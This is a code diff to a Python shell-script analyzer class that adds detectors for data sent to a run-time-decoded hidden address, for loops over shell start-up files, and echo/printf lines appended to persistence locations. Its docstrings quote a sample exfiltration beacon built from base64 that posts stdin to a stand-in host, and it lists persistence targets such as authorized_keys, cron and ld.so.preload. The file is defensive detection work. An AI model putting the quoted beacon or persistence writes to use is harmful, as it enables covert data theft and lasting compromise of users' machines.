@@ -321,6 +321,12 @@ class ShellFlow:
         if var is None:
             return
         flags: set[str] = set()
+        listed = [ch for ch in n.children if ch.type in ("word", "string", "raw_string", "concatenation") and ch.start_byte > var.end_byte]
+        if listed and len(listed) <= 50 and not any(ch.type == "command_substitution" for ch in n.children):
+            # `for rc in ~/.bashrc ~/.zshrc`: the variable takes each listed word; a start-up file among them is
+            # the one its writes are judged by, else the first
+            values = [self.value(ch) for ch in listed]
+            self.vars[var.text.decode("utf-8", "replace")] = next((v for v in values if c.PERSISTENCE_PATH.test(v)), values[0])[:2000]
         for ch in n.children:
             if ch.type == "command_substitution" and _lists_env_names(self, ch):
                 flags.add("env-names")  # `for n in $(compgen -e)`: each name, whose value ${!n} is read
@@ -664,6 +670,20 @@ class ShellFlow:
                 self.emit(K.CRED_EXFIL, cmd, f"{prog} sends the whole environment", Severity.HIGH, url=url)
         if url and _secret_ref(url, self) and prog in ("curl", "wget") and not all(H.credential_goes_home(n, url) for n in _secret_names(url, self) or ["?"]):
             self.emit(K.CRED_EXFIL, cmd, f"{prog} puts a secret variable in the request URL", Severity.MEDIUM, Confidence.MEDIUM, url=url)
+        self.hidden_destination(cmd, prog, vals)
+
+    def hidden_destination(self, cmd, prog: str, vals: list[str]) -> None:
+        """`beacon="https://$(printf 'ZXZpbC5leGFtcGxl' | base64 -d)/t"`, then `curl --data-binary @- "$beacon"`: data sent to
+        an address the script decodes at run time. A destination kept out of the reader's sight is the mark of a
+        sender that must not be noticed; what it sends (a hook's event, a file) leaves for a host nobody reviewed."""
+        if not any(v in DATA_FLAGS or v.split("=", 1)[0] in DATA_FLAGS for v in vals) and not _sends_stdin(prog, vals):
+            return
+        for a in cmd.children:
+            if a.type in ("string", "concatenation", "simple_expansion", "expansion", "word", "command_substitution") \
+                    and "://" in self.value(a) and "decoded" in self.substitution_flags(a):
+                self.emit(K.HOST_DATA_EXFIL, cmd, f"{prog} sends data to an address the script decodes at run time (a hidden destination)",
+                          Severity.HIGH, Confidence.MEDIUM)
+                return
 
     def curl_config(self, cmd, cfg: str) -> None:
         """`curl -K file`: the config (often a heredoc the script wrote) holds the URL and the upload."""
@@ -732,6 +752,16 @@ class ShellFlow:
             if rt.lstrip().startswith("<") and prog in ("nc", "ncat", "netcat", "socat", "telnet", "curl") and c.is_credential_path(dest):
                 self.emit(K.CRED_EXFIL, n, f"Credential file fed to {prog}", Severity.CRITICAL)
             if rt.lstrip().startswith((">>", ">")) and c.PERSISTENCE_PATH.test(dest):
+                writer = body
+                if body is not None and body.type == "list" and body.children and body.children[-1].type == "command":
+                    writer = body.children[-1]  # `grep -q x "$rc" || printf ... >> "$rc"`: the redirect is the last command's
+                w_prog, _, w_vals = self.command_parts(writer) if writer is not None and writer.type == "command" else ("", [], [])
+                if w_prog in ("echo", "printf"):
+                    # `printf '%s\n' "$line" >> "$rc"`: the words written are a command every later shell (or the
+                    # scheduler) runs; each is read as the script it installs (installed_scripts)
+                    for said in w_vals[:10]:
+                        if len(said) >= 8 and not said.startswith("-"):
+                            self.written_scripts.append((dest, n, said[:20000]))
                 strong = any(k in dest.lower() for k in ("authorized_keys", "cron", "systemd", "launchagents", "launchdaemons", "ld.so.preload", "rc.local", "init.d"))
                 self.emit(K.PERSISTENCE, n, f"Writes to a start-up or login location ({dest})",
                           Severity.HIGH if strong else Severity.MEDIUM, Confidence.MEDIUM)
